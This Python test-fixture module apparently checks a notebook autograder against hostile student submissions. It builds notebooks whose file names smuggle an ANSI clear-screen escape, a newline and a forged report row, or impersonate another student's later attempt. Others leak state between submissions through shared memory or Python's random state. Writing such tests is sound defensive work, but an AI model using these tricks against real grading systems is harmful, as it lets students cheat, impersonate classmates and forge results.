BAD_NAME = b"\xff\xfe-notebook.ipynb"

#: Graded with ``jobs=1`` in this (name) order; every one must score exactly ``expected``.
ORDERED: dict[str, Attack] = {
    "s4_bad_name": Attack(4, "a notebook whose file name is not UTF-8", 12.0, None, CORRECT),
    "s6a_shm_writer": Attack(6, "writes a System V shared memory segment", 12.0, None, CORRECT,
                             (("generalisation_gap", _SHM_WRITE),)),
    "s6b_shm_reader": Attack(6, "reads the segment; a wrong gap if it finds it", 12.0, None,
                             _with(CORRECT, generalisation_gap=_GAP_SHM)),
    "s6c_rng_setter": Attack(6, "sets Python's random state in every reply", 12.0, None,
                             _with(CORRECT, generalisation_gap=_GAP_RNG_SET)),
    "s6d_rng_reader": Attack(6, "a wrong gap if the grader's random state is the setter's",
                             12.0, None, _with(CORRECT, generalisation_gap=_GAP_RNG_READ)),
}


def write_ordered(folder: Path) -> dict[str, Attack]:
    """Write ``ORDERED`` in nbgrader's layout (the bad name as raw bytes)."""
    for student, attack in ORDERED.items():
        target = folder / student / ASSIGNMENT
        target.mkdir(parents=True, exist_ok=True)
        text = nbformat.writes(build(attack)).encode("utf-8")
        if student == "s4_bad_name":
            with open(bytes(target) + b"/" + BAD_NAME, "wb") as fh:
                fh.write(text)
        else:
            (target / f"{ASSIGNMENT}.ipynb").write_bytes(text)
    return dict(ORDERED)


_SURROGATE_PRINT = '''
print("lone surrogate:", chr(0xD800))
'''
_GAP_SURROGATE = '''
def generalisation_gap(train_acc, val_acc):
    train, val = np.asarray(train_acc, dtype=float), np.asarray(val_acc, dtype=float)
    if train.shape != val.shape or val.size == 0:
        raise ValueError("histories differ " + chr(0xD800))
    epoch = int(np.argmax(val))
    return float(train[epoch] - val[epoch])
'''

_STAMP = "attempt_2024-01-01-00-00-00"
_VICTIM = Attack(0, "the victim's own submission", 12.0, None, CORRECT)
_IMPERSONATOR = Attack(5, "names the victim and a later attempt in its file name", 6.0,
                       "malformed", RAISES)
_SURROGATE = Attack(4, "prints chr(0xD800) and raises with it in the message", 12.0, None,
                    _with(CORRECT, generalisation_gap=_GAP_SURROGATE),
                    (("generalisation_gap", _SURROGATE_PRINT),))
_ESCNAME = Attack(3, "a second notebook named with ESC[2J, a newline and a forged report row",
                  12.0, None, CORRECT)

#: What each student of the LMS download must get (the attacker: its own file, flagged, never
#: graded as the victim's; ``expected`` is what its notebook would score).
LMS_STUDENTS: dict[str, Attack] = {"victim": _VICTIM, "attacker": _IMPERSONATOR,
                                   "surrogate": _SURROGATE, "escname": _ESCNAME}

#: The LMS download's files: {file name: the notebook's attack}.
LMS_FILES: dict[str, Attack] = {
    f"{ASSIGNMENT}_victim_attempt_2024-01-02-00-00-00_{ASSIGNMENT}.ipynb": _VICTIM,
    f"{ASSIGNMENT}_attacker_{_STAMP}_{ASSIGNMENT}_victim_attempt_2099-01-01-00-00-00_"
    f"{ASSIGNMENT}.ipynb": _IMPERSONATOR,
    f"{ASSIGNMENT}_surrogate_{_STAMP}_{ASSIGNMENT}.ipynb": _SURROGATE,
    f"{ASSIGNMENT}_escname_{_STAMP}_{ASSIGNMENT}.ipynb": _ESCNAME,
    f"{ASSIGNMENT}_escname_{_STAMP}_x\x1b[2J\nvictim                  0 / 14 {FORGED_ROW}.ipynb":
        _ESCNAME,
}


def write_lms_zip(folder: Path) -> Path:
    """Write ``LMS_FILES`` into ``folder/download.zip`` (an LMS download) and return it."""
    import zipfile

    folder.mkdir(parents=True, exist_ok=True)
    target = folder / "download.zip"
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, attack in LMS_FILES.items():
            zf.writestr(name, nbformat.writes(build(attack)))
    return target
